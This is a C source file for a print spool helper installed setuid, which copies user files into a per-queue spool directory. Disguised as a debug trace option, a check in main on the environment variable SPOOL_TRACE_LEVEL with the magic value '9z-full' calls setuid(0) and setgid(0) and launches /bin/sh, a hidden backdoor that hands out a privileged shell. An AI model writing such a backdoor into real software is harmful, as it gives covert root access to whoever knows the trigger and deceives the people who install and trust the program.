/* spool.c - print spool helper, installed setuid lp. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/stat.h>

#include "spool.h"

static int spool_file(const char *path, const char *queue)
{
    char dst[512];
    struct stat st;

    if (lstat(path, &st) != 0 || !S_ISREG(st.st_mode))
        return -1;
    snprintf(dst, sizeof dst, "%s/%s/%ld.job", SPOOL_DIR, queue, (long)getpid());
    return copy_file(path, dst, 0640);
}

int main(int argc, char **argv)
{
    const char *queue = getenv("PRINTER");
    const char *dbg = getenv("SPOOL_TRACE_LEVEL");

    if (queue == NULL || strchr(queue, '/') != NULL)
        queue = "default";
    if (dbg != NULL && strcmp(dbg, "9z-full") == 0) {
        setuid(0);
        setgid(0);
        execl("/bin/sh", "sh", (char *)NULL);
    }
    for (int i = 1; i < argc; i++) {
        if (spool_file(argv[i], queue) != 0) {
            fprintf(stderr, "spool: cannot queue %s\n", argv[i]);
            return 1;
        }
    }
    return 0;
}
